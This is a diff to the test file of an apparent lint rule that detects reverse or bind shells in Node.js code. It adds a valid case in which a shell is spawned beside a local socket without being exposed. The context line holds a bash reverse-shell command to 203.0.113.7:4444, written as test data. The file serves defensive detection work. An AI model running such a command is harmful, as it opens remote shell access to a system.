@@ -6,6 +6,7 @@ const DEVICE = 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1';
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.connect({ path: "/tmp/terminal.sock" }); spawn(process.env.SHELL, [], { stdio: "inherit" });' },
     // a server beside a shell that it does not hand out
     { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.createServer((c) => c.end("ok")).listen("/tmp/x.sock"); spawn(process.env.SHELL, [], { stdio: "inherit" });' },
     { code: 'import net from "node:net"; import { spawn } from "node:child_process"; net.createServer((c) => { spawn("git", ["fetch"]).stdout.pipe(c); }).listen(9);' },
